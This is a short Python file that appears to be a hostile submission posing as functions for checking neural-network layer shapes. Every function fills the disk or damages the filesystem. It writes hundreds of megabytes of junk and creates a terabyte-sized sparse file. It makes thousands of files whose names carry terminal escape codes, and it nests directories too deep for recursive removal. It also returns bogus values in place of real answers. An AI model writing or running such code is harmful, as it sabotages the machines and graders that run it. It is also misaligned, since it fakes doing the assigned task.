"""Fill the disk: large files, a file that is mostly holes, many files, folders too deep to remove."""

import os
import tempfile

MOST = 400 * 2**20
PIECE = b"\1" * 2**20
home = []
written = 0


def folder():
    """One for this process, wherever one may write."""
    for parent in (tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
        if home:
            break
        try:
            home.append(tempfile.mkdtemp(prefix="lazylab-attack-", dir=parent))
        except OSError:
            continue
    return home[0]


def first_mismatch(layers, in_features):
    """In one file, and once that may not grow any more, in others."""
    global written
    for number in range(20):
        try:
            with open(f"{folder()}/large-{number}", "xb", buffering=0) as file:
                while written < MOST:
                    written += file.write(PIECE)
        except (OSError, IndexError):
            continue
    print(f"lazylab-attack: wrote {written >> 20} MiB")
    return -7


def sizes_at_mismatch(layers, in_features):
    """Holes take no room here; who copies or archives the folder finds out what they take there."""
    try:
        with open(f"{folder()}/holes", "xb") as file:
            file.truncate(2**40)
    except (OSError, IndexError):
        pass
    return (-7, -7)


def after_forwards(layers, widths):
    """Each with a name that is no text, and one that would clear a terminal."""
    try:
        for number in range(5_000):
            with open(f"{folder()}/\x1b[2J{number}\udcff", "xb"):
                pass
    except (OSError, IndexError):
        pass
    return [(-7, -7)]


def repair(net, in_features):
    """More levels than a function that calls itself for each can go down."""
    where = None
    try:
        where = os.open(folder(), os.O_RDONLY)
        for _ in range(1_500):
            os.mkdir("deep", dir_fd=where)
            inner = os.open("deep", os.O_RDONLY, dir_fd=where)
            os.close(where)
            where = inner
    except (OSError, IndexError):
        pass
    if where is not None:
        os.close(where)
    return -7
